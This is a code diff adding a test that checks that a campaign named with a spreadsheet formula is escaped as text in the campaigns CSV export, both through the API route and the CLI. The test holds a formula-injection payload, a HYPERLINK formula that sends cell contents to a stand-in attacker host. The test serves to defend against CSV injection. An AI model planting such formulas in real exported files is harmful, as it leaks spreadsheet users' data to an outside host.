@@ -12,6 +12,7 @@ import { computeCounters, readCounters } from "../shared/reports/rebuild.ts";
 import type { Counts } from "../shared/reports/contributions.ts";
 import type { CampaignsReport, FunnelReport, RevenueReport } from "../shared/reports/types.ts";
 import { linkAttribution, signToken } from "../shared/email-links/tokens.ts";
+import { parseCsv } from "../shared/import-export/csv-read.ts";
 import { TEST_TOKEN_SECRET, useStack, type TestStack } from "./support/stack.ts";
 
 /**
@@ -195,6 +196,22 @@ describe("reports from the counters the stream keeps", () => {
     expect((await stack.api("/v1/reports/revenue?interval=week", { key: stack.adminKey })).status).toBe(400);
     expect((await stack.api("/v1/reports/campaigns", { key: stack.leadsKey })).status).toBe(403);
     expect((await stack.api("/v1/reports/segments")).status).toBe(401);
+  });
+
+  it("a campaign named like a formula reaches the campaigns CSV as text, through the route and the CLI", async () => {
+    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Click")';
+    const campaign = (await stack.api("/v1/campaigns/feedback-request", { key: stack.adminKey })).body;
+    const { id: _id, isDefault: _d, updatedAt: _u, ...input } = campaign;
+    const renamed = await stack.api("/v1/campaigns/formula-name", { method: "PUT", key: stack.adminKey, body: { ...input, name: formula, enabled: false } });
+    expect(renamed.status, JSON.stringify(renamed.body)).toBeLessThan(300);
+    const res = await fetch(`${stack.url}/v1/reports/campaigns?format=csv`, { headers: { authorization: `Bearer ${stack.adminKey}` } });
+    const text = await res.text();
+    const row = parseCsv(text).find((r) => r.cells[0] === "formula-name");
+    expect(row?.cells[1]).toBe(`'${formula}`);
+    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    const env = { ...process.env, DYNAMODB_ENDPOINT: stack.deps.config.dynamodbEndpoint ?? "", RAPPORT_TABLE: stack.deps.table };
+    const cli = await exec(process.execPath, ["bin/rapport.ts", "reports", "campaigns", "--csv"], { env });
+    expect(parseCsv(cli.stdout).find((r) => r.cells[0] === "formula-name")?.cells[1]).toBe(`'${formula}`);
   });
 
   it("a rebuild from the items equals the incremental counters", async () => {
